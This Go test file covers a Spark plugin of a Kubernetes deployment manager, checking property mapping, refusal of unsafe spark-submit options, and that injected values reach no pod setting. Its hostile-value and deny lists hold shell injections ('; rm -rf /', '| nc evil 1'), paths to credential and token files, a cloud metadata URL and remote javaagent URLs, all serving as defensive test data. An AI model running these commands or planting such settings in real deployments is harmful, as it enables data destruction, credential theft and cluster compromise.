package spark

import (
	"encoding/json"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	appsv1 "k8s.io/api/apps/v1"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	"sigs.k8s.io/yaml"

	dm "github.com/pndaproject/deployment-manager"
	"github.com/pndaproject/deployment-manager/plugins/kube"
)

// plainFiles names files by what they are, and proves nothing.
type plainFiles struct{}

func (plainFiles) Address(f dm.DeliveredFile, digest [32]byte) string {
	filled := ""
	if f.Filled {
		filled = "filled/"
	}
	return fmt.Sprintf("http://files/%s%x/%s", filled, digest[:2], f.Path)
}

var team = kube.Team{Name: "data", Namespace: "pnda", ServiceAccount: "driver", Images: []string{"spark:*"}, PullSecrets: []string{"pull"}}

// render makes the objects of one component without a cluster.
func render(t *testing.T, engine string, state dm.WantedState, files fstest.MapFS, properties string) (made, []kube.Object, error) {
	t.Helper()
	p, err := New(Config{Files: plainFiles{}, Images: map[string]string{"4.3.0": "spark:4.3.0", "3.5.7": "spark:3.5.7"}, Engine: engine})
	if err != nil {
		t.Fatal(err)
	}
	tree := fstest.MapFS{"count/properties.json": {Data: []byte(properties)}}
	for path, f := range files {
		tree["count/"+path] = f
	}
	r := dm.ApplyRequest{Application: "noon-run", Desired: "0123456789", State: state, Files: tree}
	c, err := p.make(t.Context(), r, team, dm.Component{Type: kind, Name: "count"})
	if err != nil {
		return c, nil, err
	}
	if engine == Native {
		objects, err := p.native(r, c)
		return c, objects, err
	}
	return c, p.operator(r, c), nil
}

func pythonFiles() fstest.MapFS {
	return fstest.MapFS{
		"application.properties": {Data: []byte("a=1\n")}, "log4j.properties": {Data: []byte("log4j.rootLogger = WARN, x\n")},
		"job.py": {Data: []byte("print('x')\n")}, "more.zip": {}, "schema.avsc": {}, "lib/own.jar": {},
	}
}

// TestMapping holds each property, and each option of spark_submit_args, to what
// becomes of it with both engines: a path of the SparkApplication with its value, and
// arguments of spark-submit that stand next to each other.
func TestMapping(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ more, path, want, native string }{
		{``, "spec.type", `"Python"`, ""},
		{``, "spec.mode", `"cluster"`, "--deploy-mode client"},
		{``, "spec.image", `"spark:4.3.0"`, "--conf spark.kubernetes.container.image=spark:4.3.0"},
		{``, "spec.restartPolicy.type", `"Always"`, ""},
		{``, "spec.deps.files.0", `"http://files/`, "--files http://files/"},
		{``, "spec.sparkConf.spark⋅log⋅level", `"WARN"`, "--conf spark.log.level=WARN"},
		{``, "spec.driver.serviceAccount", `"driver"`, ""},
		{``, "spec.sparkConf.spark⋅kubernetes⋅driver⋅pod⋅excludedFeatureSteps", `"org.apache.spark.deploy.k8s.features.NetworkPolicyFeatureStep"`, ""},
		{`"py_files": "more.zip, schema.avsc"`, "spec.deps.pyFiles.0", `more.zip"`, "--py-files http://files/"},
		{`"py_files": "more.zip, schema.avsc"`, "spec.deps.files.2", `schema.avsc"`, "schema.avsc"},
		{`"spark_version": "3"`, "spec.sparkVersion", `"3.5.7"`, "spark:3.5.7"},
		{`"spark_version": "1"`, "spec.sparkVersion", `"4.3.0"`, "spark:4.3.0"},
		{`"spark_image": "spark:own"`, "spec.image", `"spark:own"`, "spark:own"},
		{`"driver_mem": "256M"`, "spec.driver.memory", `"256m"`, "--driver-memory 256m"},
		{`"executors_mem": "2G"`, "spec.executor.memory", `"2g"`, "--conf spark.executor.memory=2g"},
		{`"executors_num": "3"`, "spec.executor.instances", `3`, "--conf spark.executor.instances=3"},
		{`"driver_cores": 2`, "spec.driver.cores", `2`, ""},
		{`"executor_cores": 2`, "spec.executor.cores", `2`, "--conf spark.executor.cores=2"},
		{`"respawn_type": "no"`, "spec.restartPolicy.type", `"Never"`, ""},
		{`"respawn_type": "on-abort"`, "spec.restartPolicy.type", `"OnFailure"`, ""},
		{`"respawn_timeout_sec": "30"`, "spec.restartPolicy.onFailureRetryInterval", `30`, ""},
		{`"respawn_timeout_sec": "0"`, "spec.restartPolicy.onFailureRetryInterval", `1`, ""},
		{`"main_args": ["a b", "3"]`, "spec.arguments.0", `"a b"`, "a b 3"},
		{`"main_args": "--word '#test it'"`, "spec.arguments.1", `"#test it"`, "--word #test it"},
		{`"main_args": "--word #test a\\ b \"c \\$d\" ''"`, "spec.arguments", `["--word","#test","a b","c $d",""]`, "--word #test a b c $d"},
		{`"main_args": "$(POD_IP)"`, "spec.arguments.0", `"$(POD_IP)"`, "$$(POD_IP)"},
		{`"password": {"secretRef": "db/key"}`, "spec.driver.template.spec.containers.0.env.0.valueFrom.secretKeyRef.name", `"db"`, ""},
		{`"password": {"secretRef": "db/key"}`, "spec.executor.template.spec.containers.0.env.0.name", `"SECRET_PASSWORD"`, ""},
		{`"spark_submit_args": "--conf spark.sql.shuffle.partitions=7"`, "spec.sparkConf.spark⋅sql⋅shuffle⋅partitions", `"7"`, "--conf spark.sql.shuffle.partitions=7"},
		{`"spark_submit_args": "--conf spark.yarn.executor.memoryOverhead=500"`, "spec.executor.memoryOverhead", `"500m"`, "--conf spark.executor.memoryOverhead=500m"},
		{`"spark_submit_args": "--conf spark.yarn.appMasterEnv.TZ=UTC"`, "spec.driver.template.spec.containers.0.env.0.value", `"UTC"`, ""},
		{`"spark_submit_args": "--conf spark.executorEnv.TZ=UTC"`, "spec.executor.template.spec.containers.0.env.0.name", `"TZ"`, ""},
		{`"spark_submit_args": "--conf spark.kubernetes.driver.request.cores=100m"`, "spec.driver.coreRequest", `"100m"`, ""},
		{`"spark_submit_args": "--jars hdfs:///a.jar,lib/own.jar"`, "spec.deps.jars.1", `lib/own.jar"`, "--jars hdfs:///a.jar,http://files/"},
		{`"spark_submit_args": "--files=s3a://b/x"`, "spec.deps.files.2", `"s3a://b/x"`, "s3a://b/x"},
		{`"spark_submit_args": "--packages org.a:b:1"`, "spec.deps.packages.0", `"org.a:b:1"`, "--packages org.a:b:1"},
		{`"spark_submit_args": "--num-executors 4 --executor-memory 1g"`, "spec.executor.instances", `4`, "--conf spark.executor.instances=4"},
		{`"spark_submit_args": "--driver-java-options '-Da=b -Dc=d'"`, "spec.driver.javaOptions", `"-Da=b -Dc=d"`, "--conf spark.driver.extraJavaOptions=-Da=b -Dc=d"},
		{`"spark_submit_args": "--driver-class-path /x"`, "spec.sparkConf.spark⋅driver⋅extraClassPath", `"/x"`, "--conf spark.driver.extraClassPath=/x"},
	} {
		properties := `{"main_py": "job.py"`
		if c.more != "" {
			properties += ", " + c.more
		}
		properties += "}"
		_, objects, err := render(t, Operator, dm.WantStarted, pythonFiles(), properties)
		if err != nil {
			t.Errorf("%s: %v", c.more, err)
			continue
		}
		if got := at(t, objects[0].Body, c.path); !strings.Contains(got, c.want) {
			t.Errorf("%s: %s = %s, want %s", c.more, c.path, got, c.want)
		}
		_, objects, err = render(t, Native, dm.WantStarted, pythonFiles(), properties)
		if err != nil {
			t.Errorf("%s: %v", c.more, err)
			continue
		}
		if args := strings.Join(podOfObjects(objects).Containers[0].Args, " "); !strings.Contains(args, c.native) {
			t.Errorf("%s: spark-submit %s, want %s", c.more, args, c.native)
		}
	}
}

// at is the JSON of one place in a body; ⋅ stands for a dot within a key.
func at(t *testing.T, body any, path string) string {
	t.Helper()
	raw, err := json.Marshal(body)
	if err != nil {
		t.Fatal(err)
	}
	var value any
	if err := json.Unmarshal(raw, &value); err != nil {
		t.Fatal(err)
	}
	for key := range strings.SplitSeq(path, ".") {
		switch v := value.(type) {
		case map[string]any:
			value = v[strings.ReplaceAll(key, "⋅", ".")]
		case []any:
			var i int
			if _, err := fmt.Sscan(key, &i); err != nil || i >= len(v) {
				return "nothing at " + path
			}
			value = v[i]
		default:
			return "nothing at " + path
		}
	}
	raw, err = json.Marshal(value)
	if err != nil {
		t.Fatal(err)
	}
	return string(raw)
}

// podOfObjects is the driver's pod among a native component's objects.
func podOfObjects(objects []kube.Object) corev1.PodSpec {
	for _, o := range objects {
		switch body := o.Body.(type) {
		case appsv1.Deployment:
			return body.Spec.Template.Spec
		case batchv1.Job:
			return body.Spec.Template.Spec
		}
	}
	return corev1.PodSpec{Containers: []corev1.Container{{}}}
}

func TestJarIsFilled(t *testing.T) {
	t.Parallel()
	files := pythonFiles()
	files["app.jar"] = &fstest.MapFile{Data: []byte("PK\x05\x06" + strings.Repeat("\x00", 18))} // the empty one
	_, objects, err := render(t, Operator, dm.WantCreated, files, `{"main_jar": "app.jar", "main_class": "com.example.Main"}`)
	if err != nil {
		t.Fatal(err)
	}
	for path, want := range map[string]string{
		"spec.type": `"Scala"`, "spec.mainClass": `"com.example.Main"`, "spec.suspend": "true", "spec.mainApplicationFile": `"http://files/filled/`,
	} {
		if got := at(t, objects[0].Body, path); !strings.HasPrefix(got, want) {
			t.Errorf("%s = %s, want %s", path, got, want)
		}
	}
	files["app.jar"].Data = []byte("no jar")
	if _, _, err = render(t, Operator, dm.WantCreated, files, `{"main_jar": "app.jar", "main_class": "A"}`); dm.KindOf(err) != dm.Invalid {
		t.Errorf("a broken jar: %v, want kind invalid", err)
	}
}

func TestStoppedRunsNothing(t *testing.T) {
	t.Parallel()
	for respawn, want := range map[string]int{"always": 3, "no": 2} { // a Job can't be made without being run
		_, objects, err := render(t, Native, dm.WantCreated, pythonFiles(), `{"main_py": "job.py", "respawn_type": "`+respawn+`"}`)
		if err != nil || len(objects) != want {
			t.Fatalf("%s: %d objects, %v; want %d", respawn, len(objects), err, want)
		}
		if d, ok := objects[len(objects)-1].Body.(appsv1.Deployment); ok && *d.Spec.Replicas != 0 {
			t.Errorf("a stopped job has %d drivers, want 0", *d.Spec.Replicas)
		}
	}
}

// TestRefused holds what is refused to a sentence that names it.
func TestRefused(t *testing.T) {
	t.Parallel()
	for args, want := range map[string]string{
		"--master local":                      "--master is not allowed",
		"--deploy-mode=client":                "--deploy-mode is not allowed",
		"--class a.B":                         "use main_class",
		"--proxy-user root":                   "--proxy-user is not allowed",
		"--keytab /x":                         "Kerberos is not supported",
		"--properties-file x":                 "--properties-file is not allowed",
		"--supervise":                         "use respawn_type",
		"--unheard-of x":                      `unknown option "--unheard-of"`,
		"stray":                               `"stray" is no option`,
		"--conf spark.master=local":           "--conf spark.master is not allowed",
		"--conf spark.kubernetes.namespace=x": "--conf spark.kubernetes.namespace is not allowed",
		"--conf spark.kubernetes.container.image=x":                            "is not allowed",
		"--conf spark.kubernetes.driver.podTemplateFile=http://x/y":            "is not allowed",
		"--conf spark.kubernetes.authenticate.driver.serviceAccountName=admin": "is not allowed",
		"--conf spark.kubernetes.driver.volumes.hostPath.x.mount.path=/":       "is not allowed",
		"--conf spark.kubernetes.driver.secrets.x=/y":                          "is not allowed",
		"--conf spark.driver.host=evil":                                        "is not allowed",
		"--conf spark.eventLog.dir=file:///x":                                  "the server decides about event logs",
		"--conf spark.jars=http://x/y.jar":                                     "use --jars",
		"--conf spark.executorEnv.SPARK_HOME=/x":                               "SPARK_HOME is not for packages to set",
		"--conf spark.executorEnv.A-B=1":                                       "no name of an environment variable",
		"--conf nothing":                                                       "is not <key>=<value>",
		"--conf":                                                               "--conf needs a value",
		"--files file:///etc/passwd":                                           "can't be fetched",
		"--jars ../other/x.jar":                                                "no file of the component",
		"--packages ../x":                                                      "is not <group>:<artifact>:<version>",
		"--driver-memory lots":                                                 "must be a size such as 512m",
		"--executor-cores 0":                                                   "must be a number from 1",
		"--driver-java-options -Xmx1g":                                         "must not set -Xmx",
		"--driver-java-options -javaagent:/tmp/x.jar":                          `"-javaagent:/tmp/x.jar" is not an option that a package may give a JVM`,
		"--driver-java-options '-Da=b com.evil.Main'":                          `"com.evil.Main" is not an option`,
		`--driver-java-options "-Da=b\\\\ -agentlib:x"`:                        "no quotes and backslashes",
		"--driver-java-options '-Da=b #\"-javaagent:x\"'":                      "no quotes and backslashes",
		"--conf spark.driver.defaultJavaOptions=-XX:OnError=id":                "is not an option that a package may give a JVM",
		"--conf spark.sql.x=${env:AWS_SECRET_ACCESS_KEY}":                      "${env:…} is not allowed",
		"--jars http://evil/${system:user.home}":                               "${system:…} is not allowed",
		"--conf spark.executorEnv.JAVA_TOOL_OPTIONS=-javaagent:x":              "JAVA_TOOL_OPTIONS is not for packages to set",
		"--conf spark.yarn.appMasterEnv.POD_NAME=x":                            "POD_NAME is not for packages to set",
		"--conf spark.executor.extraJavaOptions=-Dspark.a=b":                   "must not set spark.* by -D",
		"--conf 'spark.sql.a=b":                                                "the quotes",
	} {
		raw, _ := json.Marshal(args)
		_, _, err := render(t, Operator, dm.WantCreated, pythonFiles(), `{"main_py": "job.py", "spark_submit_args": `+string(raw)+`}`)
		if dm.KindOf(err) != dm.Invalid || !strings.Contains(dm.Public(err), want) {
			t.Errorf("%s: %v, want kind invalid and %q", args, err, want)
		}
	}
	for properties, want := range map[string]string{
		`"main_py": "../other/job.py"`:                      "no file of the component",
		`"main_py": "schema.avsc"`:                          "must name a .py file",
		`"main_py": "job.py", "py_files": "http://x/y.py"`:  "no file of the component",
		`"main_py": "job.py", "executors_num": "many"`:      "executors_num must be a number",
		`"main_py": "job.py", "driver_mem": "1g\nx"`:        "a line break",
		`"main_py": "job.py", "respawn_type": "on-success"`: "no counterpart",
		`"main_py": "job.py", "spark_image": "evil/miner"`:  "not among those that the team data may run",
		`"main_py": "job.py", "main_args": {"a": 1}`:        "must be a text or a number",
		`"main_py": "job.py", "main_args": [["a"]]`:         "must be a list of texts",
		`"main_jar": "lib/own.jar", "main_class": "a b; c"`: "must be the name of a class",
	} {
		_, _, err := render(t, Operator, dm.WantCreated, pythonFiles(), "{"+properties+"}")
		if dm.KindOf(err) != dm.Invalid || !strings.Contains(dm.Public(err), want) {
			t.Errorf("%s: %v, want kind invalid and %q", properties, err, want)
		}
	}
}

// hostile are values that mean something to a shell, to YAML, to Kubernetes or to
// Spark, in whatever property they stand.
var hostile = []string{
	"$(id)", "`id`", "; rm -rf /", "&& reboot", "| nc evil 1", "$(POD_NAME)", "${SPARK_HOME}", "{{ .Values }}", "../../etc/passwd", "/etc/shadow",
	"--master=local", "--conf spark.master=local", "a --conf spark.kubernetes.namespace=kube-system", "spark.kubernetes.driver.pod.name=x",
	"hostPath: {path: /}", "}, \"hostNetwork\": true, {", "!!python/object:os.system", "&a [*a,*a]", "\\u0000", "'\"'\"'", "%00", "-v /:/host",
	"-javaagent:http://evil/x.jar", "file:///var/run/secrets/kubernetes.io/serviceaccount/token", "local:///etc/passwd", "http://169.254.169.254/latest",
	"privileged: true", "root", strings.Repeat("A", 5000), "\u202eevil",
}

// hostilePods are settings of pods that would harm others: by the key of Spark's
// configuration that sets it, or by the name that it has in a pod. The first are
// refused by name; the second are the job's own properties and go nowhere.
var hostilePods = []string{
	"spark.kubernetes.driver.podTemplateFile=http://evil/pod.yaml", "spark.kubernetes.executor.podTemplateFile=http://evil/pod.yaml",
	"spark.kubernetes.authenticate.driver.serviceAccountName=deployment-manager", "spark.kubernetes.authenticate.serviceAccountName=admin",
	"spark.kubernetes.authenticate.oauthToken=x", "spark.kubernetes.authenticate.submission.caCertFile=/x", "spark.kubernetes.namespace=kube-system",
	"spark.kubernetes.driver.volumes.hostPath.x.mount.path=/host", "spark.kubernetes.executor.volumes.persistentVolumeClaim.x.options.claimName=theirs",
	"spark.kubernetes.driver.secrets.theirs=/secrets", "spark.kubernetes.executor.secretKeyRef.X=theirs:key", "spark.kubernetes.driver.secretKeyRef.X=theirs:key",
	"spark.kubernetes.container.image=evil", "spark.kubernetes.driver.container.image=evil", "spark.kubernetes.executor.container.image=evil",
	"spark.kubernetes.container.image.pullSecrets=theirs", "spark.kubernetes.node.selector.x=control-plane", "spark.kubernetes.driver.node.selector.x=y",
	"spark.kubernetes.driver.label.app=hub", "spark.kubernetes.executor.annotation.x=y", "spark.kubernetes.executor.scheduler.name=x",
	"spark.kubernetes.driver.pod.excludedFeatureSteps=x", "spark.kubernetes.driver.pod.featureSteps=com.evil.Step", "spark.kubernetes.hadoop.configMapName=theirs",
	"spark.kubernetes.kerberos.krb5.path=/x", "spark.kubernetes.driver.master=https://evil", "spark.kubernetes.context=admin", "spark.driver.resource.gpu.vendor=x",
	"hostNetwork", "hostPID", "hostIPC", "hostPath", "privileged", "securityContext", "serviceAccountName", "automountServiceAccountToken", "nodeName",
	"tolerations", "priorityClassName", "hostAliases", "volumes", "initContainers", "template", "podTemplate", "sysctls", "procMount", "namespace",
}

// TestHostilePods holds that none of them reaches an object of either engine.
func TestHostilePods(t *testing.T) {
	t.Parallel()
	for _, engine := range []string{Operator, Native} {
		_, plain, err := render(t, engine, dm.WantStarted, pythonFiles(), `{"main_py": "job.py"}`)
		if err != nil {
			t.Fatal(err)
		}
		want, _ := json.Marshal(plain)
		for _, one := range hostilePods {
			key, _, isConf := strings.Cut(one, "=")
			properties := `{"main_py": "job.py", "` + one + `": {"privileged": true, "hostPath": {"path": "/"}}}`
			if isConf {
				properties = `{"main_py": "job.py", "spark_submit_args": "--conf ` + one + `"}`
			}
			_, objects, err := render(t, engine, dm.WantStarted, pythonFiles(), properties)
			got, _ := json.Marshal(objects)
			switch {
			case isConf && (dm.KindOf(err) != dm.Invalid || !strings.Contains(dm.Public(err), key)):
				t.Errorf("%s: %s: %v, want it refused by name", engine, one, err)
			case !isConf && (err != nil || string(got) != string(want)):
				t.Errorf("%s: the property %s changed the objects, or is refused: %v", engine, one, err)
			}
		}
	}
}

// settings of a pod that must not be there whatever a package says.
var forbidden = []string{
	"hostPath", "hostNetwork", "hostPID", "hostIPC", "privileged", "hostPort", "hostUsers", "procMount", "sysctls", "secret:", "projected", "csi:", "nfs:", "iscsi",
	"persistentVolumeClaim", "nodeName:", "nodeSelector", "tolerations", "priorityClassName", "runtimeClassName", "hostAliases", "shareProcessNamespace",
	"ephemeralContainers", "initContainers",
}

// TestHostileValuesReachNoPodSetting puts every hostile value into every property and
// holds what comes of it, if anything does, to the pods that were there without it.
func TestHostileValuesReachNoPodSetting(t *testing.T) {
	t.Parallel()
	properties := []string{
		"main_class", "main_args", "py_files", "spark_version", "spark_image", "driver_mem", "executors_mem", "executors_num", "driver_cores",
		"executor_cores", "spark_submit_args", "respawn_type", "respawn_timeout_sec", "any_other",
	}
	tried, taken := 0, 0
	for _, engine := range []string{Operator, Native} {
		_, plain, err := render(t, engine, dm.WantStarted, pythonFiles(), `{"main_py": "job.py"}`)
		if err != nil {
			t.Fatal(err)
		}
		want := skeletons(t, plain)
		for _, property := range properties {
			for _, value := range hostile {
				for _, spelled := range []string{value, "--conf spark.sql.x=" + value, "--driver-java-options '" + value + "'", "--conf spark.executorEnv.X=" + value} {
					if spelled != value && property != "spark_submit_args" {
						continue
					}
					raw, _ := json.Marshal(map[string]string{"main_py": "job.py", property: spelled})
					_, objects, err := render(t, engine, dm.WantStarted, pythonFiles(), string(raw))
					tried++
					if err != nil {
						if dm.KindOf(err) != dm.Invalid {
							t.Errorf("%s %s=%.60q: %v, want kind invalid", engine, property, spelled, err)
						}
						continue
					}
					taken++
					if got := skeletons(t, objects); !slices.Equal(got, want) && property != "respawn_type" {
						t.Errorf("%s %s=%.60q changed the pods:\n got %v\nwant %v", engine, property, spelled, got, want)
					}
				}
			}
		}
	}
	t.Logf("%d values tried, %d taken as plain text", tried, taken)
	if taken == 0 {
		t.Error("nothing was taken, so nothing was tested")
	}
}

// skeletons are the pods of objects without what a package may say: arguments,
// variables, and sizes.
func skeletons(t *testing.T, objects []kube.Object) []string {
	t.Helper()
	var specs []corev1.PodSpec
	for _, o := range objects {
		switch body := o.Body.(type) {
		case sparkApplication:
			specs = append(specs, body.Spec.Driver.Template.Spec, body.Spec.Executor.Template.Spec)
		case corev1.ConfigMap:
			var pod corev1.Pod
			if err := yaml.UnmarshalStrict([]byte(body.Data[executorPodFile]), &pod); err != nil {
				t.Fatal(err)
			}
			specs = append(specs, pod.Spec)
		default:
			if spec := podOfObjects([]kube.Object{o}); spec.SecurityContext != nil {
				specs = append(specs, spec)
			}
		}
	}
	var texts []string
	for _, spec := range specs {
		spec = *spec.DeepCopy()
		spec.Containers[0].Args, spec.Containers[0].Env, spec.Containers[0].Resources, spec.RestartPolicy = nil, nil, corev1.ResourceRequirements{}, ""
		raw, err := yaml.Marshal(spec)
		if err != nil {
			t.Fatal(err)
		}
		for _, word := range forbidden {
			if strings.Contains(string(raw), word) {
				t.Errorf("a pod has %s:\n%s", word, raw)
			}
		}
		texts = append(texts, string(raw))
	}
	return texts
}

// TestRunsOnlyWhenAsked holds when a job is run again: at a start, and when something
// of it is other, but not for another attempt at the same change.
func TestRunsOnlyWhenAsked(t *testing.T) {
	t.Parallel()
	p, err := New(Config{Files: plainFiles{}, Images: map[string]string{"4.3.0": "spark:4.3.0"}, Engine: Operator})
	if err != nil {
		t.Fatal(err)
	}
	var record *dm.PluginRecord
	apply := func(desired dm.Revision, state dm.WantedState, properties string) data {
		tree := fstest.MapFS{"count/properties.json": {Data: []byte(properties)}}
		for path, f := range pythonFiles() {
			tree["count/"+path] = f
		}
		c, err := p.make(t.Context(), dm.ApplyRequest{Application: "noon-run", Desired: desired, State: state, Files: tree, Previous: record}, team, dm.Component{Name: "count"})
		if err != nil {
			t.Fatal(err)
		}
		raw, _ := json.Marshal(c.data)
		record = &dm.PluginRecord{Components: []dm.ComponentRecord{{Name: "count", Data: raw}}}
		return c.data
	}
	const same, other = `{"main_py": "job.py"}`, `{"main_py": "job.py", "executors_num": 2}`
	runs := map[string]string{}
	for _, step := range []struct {
		name       string
		desired    dm.Revision
		state      dm.WantedState
		properties string
		as         string // the step whose run it goes on with
	}{
		{"create", "c1", dm.WantCreated, same, ""},
		{"start", "c2", dm.WantStarted, same, ""},
		{"start, once more", "c2", dm.WantStarted, same, "start"},
		{"change of nothing that runs", "c3", dm.WantStarted, same, "start"},
		{"change", "c4", dm.WantStarted, other, ""},
		{"stop", "c5", dm.WantCreated, other, "change"},
		{"start again", "c6", dm.WantStarted, other, ""},
	} {
		d := apply(step.desired, step.state, step.properties)
		if step.as != "" && d.Run != runs[step.as] {
			t.Errorf("%s: run %s, want that of %s, %s", step.name, d.Run, step.as, runs[step.as])
		}
		if step.as == "" && slices.Contains(slices.Collect(maps.Values(runs)), d.Run) {
			t.Errorf("%s: run %s, want a new one", step.name, d.Run)
		}
		runs[step.name] = d.Run
	}
}
